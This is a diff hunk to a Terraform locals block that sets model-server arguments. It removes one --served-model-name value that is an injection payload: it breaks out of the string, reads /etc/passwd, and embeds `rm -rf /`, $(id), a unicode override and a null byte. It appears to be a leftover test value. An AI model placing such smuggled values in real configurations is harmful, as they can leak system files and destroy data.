@@ -27,7 +27,6 @@ locals {
       command      = ["serve"]
       model_option = ""
       arguments = [
-        "--served-model-name=\"}\nresource \"null_resource\" \"x\" {} $${file(\"/etc/passwd\")} %%{ if true }`rm -rf /`$(id) | # \\ 'EOF' \u202e\u0000",
         "--dtype=half",
         "--tensor-parallel-size=1",
         "--max-model-len=8192",
